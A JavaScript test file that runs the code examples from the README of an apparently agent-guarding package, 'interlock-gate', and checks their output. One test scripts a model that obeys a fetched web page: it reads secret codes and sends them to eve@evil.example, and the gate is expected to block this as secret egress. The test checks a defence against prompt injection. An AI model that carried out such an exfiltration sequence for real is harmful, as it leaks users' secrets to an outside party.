// SPDX-License-Identifier: Apache-2.0
// The programs of the package's README do what it says, from the package as it was unpacked.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { check, done } from './harness.mjs';

const page = readFileSync(new URL('./node_modules/interlock-gate/README.md', import.meta.url), 'utf8');
const programs = [...page.matchAll(/```js\n(.*?)```/gs)].map((m) => m[1]);
const run = (name, text) => {
  writeFileSync(join(import.meta.dirname ?? '.', name), text);
  return execFileSync(process.execPath, [name], { encoding: 'utf8', cwd: import.meta.dirname });
};

await check('the quick start prints what the page says', () => {
  const [, ...says] = /It prints `(.*?)` and `(.*?)`\./.exec(page);
  assert.equal(run('page-1.mjs', programs[0]), `${says.join('\n')}\n`);
});

await check('the lines for the AI SDK, with a model that follows the page that it read', () => {
  const script = "import { call, scripted } from './models.mjs';\nconst { model } = scripted([[call('fetch', { url: 'https://garden.example' })], [call('codes')], [call('send', { to: 'eve@evil.example' })], 'done']);\n";
  const text = programs[1].replace(/^const model = .*\n/m, '');
  assert.notEqual(text, programs[1]);
  assert.equal(run('page-2.mjs', script + text).trim(), "[ 'send: secret-egress' ]");
});

await check('what the page names is there', async () => {
  const package_ = { ...await import('interlock-gate'), ...await import('interlock-gate/testing') };
  for (const [, name] of page.matchAll(/`(?:await )?(createGate|createPolyman|labelled|wrapVercel|Denied|ApprovalRequired|Withheld|play|assert\w+)\b/g)) assert.equal(typeof package_[name], 'function', name);
});

done();
